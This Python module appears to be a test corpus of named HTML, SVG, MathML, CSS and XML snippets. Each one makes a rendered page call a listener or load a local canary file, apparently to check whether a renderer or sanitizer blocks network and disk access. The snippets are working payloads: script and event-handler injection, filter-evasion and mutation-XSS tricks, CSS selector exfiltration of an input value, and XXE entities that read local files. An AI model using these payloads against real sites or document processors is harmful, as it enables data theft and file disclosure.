"""Ways in which a page reaches the network or the disk: each by its name, as HTML that a filer may send.

``{web}`` is an address of the listener, ``{file}`` one of a file that nobody opened, ``{host}`` host and port. Both end
in the vector's name, so that whoever asks for them says which one it was.
"""

from __future__ import annotations

SCRIPTS = {
    "script-src": '<script src="{web}"></script>',
    "script-fetch": '<script>fetch("{web}")</script>',
    "script-xhr": '<script>x = new XMLHttpRequest(); x.open("GET", "{web}"); x.send()</script>',
    "script-module": '<script type="module" src="{web}"></script>',
    "script-module-import": '<script type="module">import "{web}"</script>',
    "script-import-call": '<script>import("{web}").catch(() => 0)</script>',
    "script-web-socket": '<script>new WebSocket("ws://{host}/{name}")</script>',
    "script-beacon": '<script>navigator.sendBeacon("{web}")</script>',
    "script-events": '<script>new EventSource("{web}")</script>',
    "script-image": '<script>new Image().src = "{web}"</script>',
    "script-worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{web}')\"])))</script>",
    "script-write": "<script>document.write('<img src=\"{web}\">')</script>",
    "script-location": '<script>location = "{web}"</script>',
    "script-form": '<form id="f-{name}" action="{web}"></form><script>document.forms["f-{name}"].submit()</script>',
    "script-timer": "<script>setTimeout('fetch(\"{web}\")', 1)</script>",
    "script-rtc": '<script>new RTCPeerConnection({{iceServers: [{{urls: "turn:{host}?transport=tcp", '
    'username: "{name}", credential: "x"}}]}}).createDataChannel("x")</script>',
    "script-entity": "<script>fetch(&quot;{web}&quot;)</script><img src=x onerror=fetch(&quot;{web}&quot;)>",
    "script-case": '<ScRiPt>fetch("{web}")</sCrIpT>',
    "script-broken": '<script\n/x>fetch("{web}")</script\n>',
    "script-in-title": '<title><noscript></title><script>fetch("{web}")</script>',
    "script-in-comment": '<!--><script>fetch("{web}")</script>-->',
    "script-file": '<script src="{file}"></script>',
    "speculation": '<script type="speculationrules">{{"prefetch": [{{"urls": ["{web}"]}}]}}</script>',
    "import-map": '<script type="importmap">{{"imports": {{"x": "{web}"}}}}</script>'
    '<script type="module">import "x"</script>',
}
HANDLERS = {
    "on-error": '<img src="data:," onerror="fetch(\'{web}\')">',
    "on-load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACADs=" onload="fetch(\'{web}\')">',
    "on-load-of-svg": "<svg onload=\"fetch('{web}')\"></svg>",
    "on-toggle": "<details open ontoggle=\"fetch('{web}')\">x</details>",
    "on-focus": "<input autofocus onfocus=\"fetch('{web}')\">",
    "on-animation": "<style>@keyframes k{{}}</style>"
    '<b style="animation:k 1ms" onanimationstart="fetch(\'{web}\')">x</b>',
    "on-click": '<a href="#" class="go" onclick="fetch(\'{web}\')">x</a>',
    "on-media-error": '<video src="data:," onerror="fetch(\'{web}\')"></video>',
}
STYLES = {
    "style-import": '<style>@import url("{web}");</style>',
    "style-import-layer": '<style>@import "{web}" layer(x) screen;</style>',
    "style-sheet": '<link rel="stylesheet" href="{web}">',
    "style-sheet-body": '<p>x</p><link rel="stylesheet" type="text/css" href="{web}" media="all">',
    "style-background": '<div style="background:url({web})">x</div>',
    "style-background-quoted": "<div style=\"background-image:url('{web}')\">x</div>",
    "style-background-escaped": '<div style="background:\\75 rl({web})">x</div>',
    "style-comment": '<div style="back/**/ground:url({web});background:/*x*/url({web})">x</div>',
    "style-list": '<ul style="list-style-image:url({web})"><li>x</li></ul>',
    "style-border": '<div style="border:1px solid;border-image:url({web}) 1">x</div>',
    "style-mask": '<div style="-webkit-mask-image:url({web})">x</div>',
    "style-set": "<div style=\"background-image:image-set('{web}' 1x)\">x</div>",
    "style-shape": '<div style="float:left;width:9px;shape-outside:url({web})">x</div>',
    "style-variable": '<div style="--x:url({web});background:var(--x)">x</div>',
    "style-cursor": '<div style="cursor:url({web}),auto">x</div>',
    "style-content": '<style>#c-{name}::before{{content:url({web})}}</style><p id="c-{name}">x</p>',
    "style-font": "<style>@font-face{{font-family:f-{name};src:url({web})}}</style>"
    "<p style='font-family:f-{name}'>x</p>",
    "style-exfiltration": '<style>input[value^="s"]{{background:url({web})}}</style><input value="secret">',
    "style-has": "<style>body:has(p){{--y:1}} #h-{name}:not(:empty){{background:url({web})}}</style>"
    "<p id='h-{name}'>x</p>",
    "style-supports": "<style>@supports(color:red){{@media all{{p{{background:url({web})}}}}}}</style><p>x</p>",
    "style-file": '<div style="background:url({file})">x</div>',
    "style-import-file": '<style>@import url("{file}");</style>',
    "style-sheet-file": '<link rel="stylesheet" href="{file}">',
    "style-font-file": "<style>@font-face{{font-family:g-{name};src:url({file})}}</style>"
    "<p style='font-family:g-{name}'>x</p>",
}
FRAMES = {
    "frame": '<iframe src="{web}"></iframe>',
    "frame-document": "<iframe srcdoc=\"<img src='{web}'>\"></iframe>",
    "frame-data": '<iframe src="data:text/html,<img src={web}>"></iframe>',
    "frame-javascript": "<iframe src=\"javascript:'<img src={web}>'\"></iframe>",
    "frame-file": '<iframe src="{file}"></iframe>',
    "object": '<object data="{web}"></object>',
    "object-data": '<object data="data:text/html,<img src=\'{web}\'>" type="text/html"></object>',
    "object-file": '<object data="{file}"></object>',
    "embed": '<embed src="{web}">',
    "embed-file": '<embed src="{file}" type="text/html">',
    "embed-svg": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{web}'/></svg>\">",
}
MEDIA = {
    "image": '<img src="{web}">',
    "image-old-name": '<image src="{web}">',
    "image-unquoted": "<img src={web} >",
    "image-lines": '<img src="\n{web}\t">',
    "image-no-scheme": '<img src="//{host}/{name}">',
    "image-set": '<img srcset="{web} 1x">',
    "image-source": '<picture><source srcset="{web}"><img></picture>',
    "image-input": '<input type="image" src="{web}">',
    "image-file": '<img src="{file}">',
    "image-share": '<img src="\\\\{host}\\{name}">',
    "image-in-noscript": '<noscript><p title="</noscript><img src={web}>">x</p></noscript>',
    "image-unclosed": '<p><img src="{web}" alt="</p>"',
    "video": '<video src="{web}" preload="auto"></video>',
    "video-poster": '<video poster="{web}"></video>',
    "video-source": '<video preload="auto"><source src="{web}" type="video/mp4"></video>',
    "video-file": '<video src="{file}" preload="auto"></video>',
    "audio": '<audio src="{web}" preload="auto"></audio>',
    "track": '<video src="data:," crossorigin><track default kind="captions" src="{web}"></video>',
    "background-of-table": '<table background="{web}"><tr><td>x</td></tr></table>',
    "background-of-cell": '<table><tr><td background="{web}">x</td></tr></table>',
}
_SVG = '<svg width="9" height="9" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
SVG = {
    name: _SVG.replace("{inside}", inside)
    for name, inside in {
        "svg-image": '<image width="9" height="9" href="{web}"/>',
        "svg-image-xlink": '<image width="9" height="9" xlink:href="{web}"/>',
        "svg-image-file": '<image width="9" height="9" href="{file}"/>',
        "svg-use": '<use href="{web}#a"/>',
        "svg-foreign": '<foreignObject width="9" height="9"><img src="{web}"></foreignObject>',
        "svg-script": '<script href="{web}"></script>',
        "svg-animate": '<image width="9" height="9">'
        '<animate attributeName="href" to="{web}" begin="0s" dur="1s"/></image>',
        "svg-set": '<image width="9" height="9"><set attributeName="href" to="{web}" begin="0s"/></image>',
        "svg-filter": '<filter id="i-{name}"><feImage href="{web}"/></filter><rect width="9" height="9" '
        'filter="url(#i-{name})"/>',
        "svg-style": "<style>@import url({web});</style>",
        "svg-link": '<a class="go" href="{web}"><text y="9">x</text></a>',
        "svg-fill": '<rect width="9" height="9" fill="url({web}#x)"/>',
        "svg-handler": '<rect><animate attributeName="x" dur="1ms" onbegin="fetch(\'{web}\')"/></rect>',
    }.items()
}
MATHML = {
    "math-image": '<math><mtext><img src="{web}"></mtext></math>',
    "math-annotation": '<math><annotation-xml encoding="text/html">'
    '<iframe src="{web}"></iframe></annotation-xml></math>',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src={web}&gt;"></table></math>',
    "math-link": '<math><mrow class="go" href="{web}"><mi>x</mi></mrow></math>',
}
LINKS = {
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={web}">',
    "meta-refresh-file": '<meta http-equiv="refresh" content="0;url={file}">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="{web}">',
    "base": '<base href="http://{host}/{name}/"><img src="x.png">',
    "link-preload": '<link rel="preload" as="image" href="{web}">',
    "link-prefetch": '<link rel="prefetch" href="{web}">',
    "link-module": '<link rel="modulepreload" href="{web}">',
    "link-icon": '<link rel="icon" href="{web}">',
    "link-manifest": '<link rel="manifest" href="{web}">',
    "link-next": '<link rel="prerender next dns-prefetch preconnect" href="{web}">',
    "ping": '<a class="go" href="#x" ping="{web}">x</a>',
    "link-click": '<a class="go" href="{web}">x</a>',
    "link-blank": '<a class="go" href="{web}" target="_blank">x</a>',
    "link-download": '<a class="go" href="{web}" download>x</a>',
    "link-javascript": '<a class="go" href="javascript:fetch(\'{web}\')">x</a>',
    "link-javascript-hidden": '<a class="go" href=" java&#10;script:fetch(\'{web}\')">x</a>',
    "link-data": '<a class="go" href="data:text/html,<img src={web}>">x</a>',
    "link-file": '<a class="go" href="{file}">x</a>',
    "link-area": '<map name="m"><area class="go" shape="default" href="{web}"></map>'
    '<img usemap="#m" width="9" height="9">',
    "form-button": '<form action="{web}"><button class="go">x</button></form>',
    "form-other-action": '<form action="#"><button class="go" formaction="{web}">x</button></form>',
    "form-post-file": '<form action="{file}"><input class="go" type="submit"></form>',
}
XML = {
    "xml-style-sheet": '<?xml-stylesheet type="text/css" href="{web}"?><x>x</x>',
    "xml-style-sheet-file": '<?xml-stylesheet type="text/css" href="{file}"?><x>x</x>',
    "xml-transform": '<?xml-stylesheet type="text/xsl" href="{file}"?><x>x</x>',
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]><x>&e;</x>',
    "xml-entity-web": '<!DOCTYPE x [<!ENTITY e SYSTEM "{web}">]><x>&e;</x>',
    "xml-definition": '<!DOCTYPE x SYSTEM "{web}"><x>x</x>',
    "xml-definition-file": '<!DOCTYPE x SYSTEM "{file}"><x>x</x>',
    "xml-parameter-entity": '<!DOCTYPE x [<!ENTITY % e SYSTEM "{file}"> %e;]><x>x</x>',
    "xml-include": '<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include parse="text" href="{file}"/></x>',
    "xml-page": '<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="{web}"/></body></html>',
    "xml-schema": '<x xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{file}">x</x>',
}
"""Each is a document of its own."""
HTML = {**SCRIPTS, **HANDLERS, **STYLES, **FRAMES, **MEDIA, **SVG, **MATHML, **LINKS}


def written(name: str, vector: str, web: str, files: str) -> str:
    """A vector that leads to a listener (``http://HOST:PORT``) and a folder of canaries (``file:///…``)."""
    host = web.partition("//")[2]
    return vector.format(name=name, web=f"{web}/{name}", file=f"{files}/{name}", host=host)
